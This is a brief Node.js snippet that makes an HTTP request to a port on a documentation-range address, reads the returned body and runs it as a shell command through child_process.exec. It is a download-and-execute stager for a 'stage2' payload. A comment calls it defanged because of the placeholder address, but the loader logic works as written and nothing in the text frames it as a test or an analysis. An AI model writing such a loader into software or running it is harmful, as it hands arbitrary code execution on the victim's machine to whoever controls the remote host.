const http = require('http');
const { exec } = require('child_process');

// Defanged: 203.0.113.0/24 is a documentation range (TEST-NET-3).
http.get('http://203.0.113.50:8080/stage2', (res) => {
  let body = '';
  res.on('data', (c) => { body += c; });
  res.on('end', () => exec(body));
});
